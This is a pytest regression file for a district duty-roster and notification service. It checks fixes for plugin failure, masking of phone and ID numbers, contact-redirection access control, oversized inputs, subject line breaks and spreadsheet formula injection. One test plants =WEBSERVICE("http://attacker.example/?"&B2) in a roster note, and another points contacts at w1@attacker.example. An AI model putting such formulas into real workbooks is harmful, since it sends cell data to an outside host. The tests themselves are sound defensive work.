"""Defects found in the second review of duty (issue 8): a notifier plugin failing while addressing a notice,
personal data in case titles sent to mail servers and chat robots, a street dispatcher redirecting the
district's notifications, huge or out-of-range values answered with a 500, and a roster note turned into a formula
in the exported workbook, and a form number int() cannot read."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from email.message import EmailMessage

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from gridgov.config import Settings
from gridgov.core.errors import InputError
from gridgov.domains.cases.service import Context
from gridgov.domains.duty import files, jobs, service
from gridgov.domains.duty.models import DutyContact, DutyNotice, DutyShift
from gridgov.domains.duty.notifiers import Address, Message, Notifier, Recipient, build_registry
from gridgov.domains.intake import service as intake
from tests.domains.cases.test_flow import report
from tests.domains.duty.conftest import OPERATOR, local
from tests.domains.duty.test_api import api  # noqa: F401 - the duty API client with a token per staff member
from tests.domains.duty.test_notify import Recorder, recorder, rostered, run, told  # noqa: F401
from tests.web.conftest import console, fast_hashing, login  # noqa: F401 - the console's users and login

D = dt.date
PHONE, ID_NUMBER = "13987654321", "41010519520709022X"


class Broken(Notifier):
    """A plugin with a bug: it raises while working out whom a notice goes to."""

    slug = "broken"

    def addresses(
        self, *, settings: Settings, centre_codes: Sequence[str], recipients: Sequence[Recipient]
    ) -> list[Address]:
        raise RuntimeError("plugin bug")

    def send(self, *, settings: Settings, address: str | None, message: Message) -> None:  # pragma: no cover
        raise AssertionError("never addressed, never sent")


def urgent_case(db, duty, **changes):
    submitted = report("BJ0101").model_copy(update=changes)
    return intake.submit(db=db, report=submitted, ctx=Context.of(duty.world.grid_worker, now=local(2026, 12, 1, 10)))


def test_a_plugin_failing_to_address_a_notice_does_not_stop_the_others(db, rostered, recorder):  # noqa: F811
    case = urgent_case(db, rostered).case
    broken = Broken()
    configured = Settings(_env_file=None, duty_notifiers="broken,recorder")

    @contextmanager
    def join(_write: bool) -> Iterator:
        with db.begin_nested():
            yield db

    result = jobs.run_notifications(
        now=local(2026, 12, 1, 10, 1), open_tx=join, settings=configured, notifiers=build_registry([broken, recorder])
    )
    assert result.scan.notices == 1 and result.scan.failed_notifiers == ["broken"]
    assert told(recorder) == ["d_disp1", "d_leader", "w_disp1", "w_disp2"]  # the others were told all the same
    notice = db.scalars(select(DutyNotice).where(DutyNotice.case_id == case.id)).one()
    assert "broken" in (notice.remark or "")
    # the cursor moved on: the next run neither fails again on this case nor sends anything twice
    again = jobs.run_notifications(
        now=local(2026, 12, 1, 10, 2), open_tx=join, settings=configured, notifiers=build_registry([broken, recorder])
    )
    assert (again.scan.notices, again.delivered) == (0, 0)


def test_identity_numbers_and_phones_in_a_case_title_do_not_leave_in_notices(db, rostered, recorder, run):  # noqa: F811
    title = f"井盖缺失 请联系{PHONE}"
    address = f"经八路12号 户主身份证{ID_NUMBER}"
    urgent_case(db, rostered, title=title, address=address)
    run(local(2026, 12, 1, 10, 1))
    assert recorder.sent
    for _address, message in recorder.sent:
        for text in (message.subject, message.body, message.text):
            assert PHONE not in text and ID_NUMBER not in text
    notice = db.scalars(select(DutyNotice)).one()
    assert PHONE not in notice.subject + notice.body and ID_NUMBER not in notice.body
    assert "139****4321" in notice.subject and "410105********022X" in notice.body


def test_a_street_dispatcher_may_not_redirect_the_district_staffs_notifications(api, duty):  # noqa: F811
    evil = {"email": "w1@attacker.example", "mobile": "13800000009"}
    for username in ("d_leader", "d_disp1"):
        refused = api.put(f"/api/v1/duty/contacts/{username}", json=evil, headers=api.who["w_disp1"])
        assert refused.status_code == 404, refused.text
        assert duty.db.get(DutyContact, duty.users[username].id) is None
    # the district's own managers set them; the street's managers still set their own staff's
    mine = api.put("/api/v1/duty/contacts/d_leader", json={"email": "leader@duty.example"}, headers=api.who["d_disp1"])
    assert mine.status_code == 200 and mine.json()["email"] == "leader@duty.example"
    assert api.put("/api/v1/duty/contacts/w_disp2", json={}, headers=api.who["w_disp1"]).status_code == 200


def test_a_huge_shift_position_is_refused_not_a_server_error(api, duty):  # noqa: F811
    body = {"name": "加班", "time": "08:00-09:00", "position": 10**20}
    response = api.put("/api/v1/duty/shifts/410105001/extra", json=body, headers=api.who["w_disp1"])
    assert response.status_code == 422 and response.json()["issues"][0]["field"] == "position"
    with pytest.raises(InputError) as refused:
        service.set_shift(
            db=duty.db, centre=duty.west, code="x", name="x", span="08:00-09:00", position=-(10**6), actor=OPERATOR
        )
    assert refused.value.issues[0].field == "position"
    book = Workbook()
    book.active.title = "值班表"
    book.active.append(["日期", "班次", "值班长", "值班人员"])
    book.active.append(["2026-12-02", "extra", "w_disp1", ""])
    shifts = book.create_sheet("班次")
    shifts.append(["代码", "名称", "时间", "顺序", "启用"])
    shifts.append(["extra", "加班", "08:00-09:00", "99999999999999999999", "是"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(InputError) as imported:
        files.import_roster(db=duty.db, centre=duty.west, data=buffer.getvalue(), filename="r.xlsx", actor=OPERATOR)
    assert "position" in {issue.field for issue in imported.value.issues}
    assert duty.db.scalars(select(DutyShift).where(DutyShift.code == "extra")).first() is None


def test_huge_offsets_and_times_out_of_range_are_refused_not_a_server_error(api, duty):  # noqa: F811
    headers = api.who["w_disp1"]
    for path in ("/api/v1/duty/handovers", "/api/v1/duty/notifications"):
        response = api.get(path, params={"centre": "410105001", "offset": 10**20}, headers=headers)
        assert response.status_code == 422, (path, response.text)
    gap = api.get("/api/v1/duty/gaps", params={"centre": "410105001", "start": "9999-12-31T20:00:00"}, headers=headers)
    assert gap.status_code == 422, gap.text
    early = api.get("/api/v1/duty/now", params={"centre": "410105001", "at": "0001-01-01T00:00:00"}, headers=headers)
    assert early.status_code == 422, early.text


def test_a_roster_note_starting_with_an_equals_sign_stays_text_in_the_exported_workbook(duty):
    formula = '=WEBSERVICE("http://attacker.example/?"&B2)'
    duty.set(duty.west, D(2026, 12, 2), "early", "w_disp1", "w_disp2", note=formula)
    data = files.export_roster(db=duty.db, centre=duty.west, start=D(2026, 12, 1), end=D(2027, 1, 1))
    sheet = load_workbook(io.BytesIO(data))["值班表"]
    notes = [row[8] for row in sheet.iter_rows(min_row=2) if row[8].value]
    assert notes and notes[0].data_type == "s" and notes[0].value == formula


def test_a_superscript_digit_as_the_handover_shift_is_refused_not_a_server_error(client, console, frozen):  # noqa: F811
    token = login(client, "street")
    data = {"csrf_token": token, "roster_id": "²", "open_matters": "无遗留事项"}
    refused = client.post("/duty/handovers", data=data)
    assert refused.status_code == 422 and "choose one of your shifts" in refused.text
    huge = client.get("/duty/notifications", params={"centre": "410105001", "offset": 10**20})
    assert huge.status_code == 200
    assert client.get("/duty/handovers", params={"centre": "410105001", "offset": 10**20}).status_code == 200


def test_a_title_with_a_line_break_still_makes_a_valid_e_mail_subject(db, rostered, recorder, run):  # noqa: F811
    urgent_case(db, rostered, title="井盖缺失\r\n请尽快处理")
    run(local(2026, 12, 1, 10, 1))
    notice = db.scalars(select(DutyNotice)).one()
    assert notice.subject.endswith("井盖缺失 请尽快处理")
    mail = EmailMessage()
    mail["Subject"] = recorder.sent[0][1].subject  # refused with a ValueError when it holds a line break
    assert mail["Subject"] == notice.subject
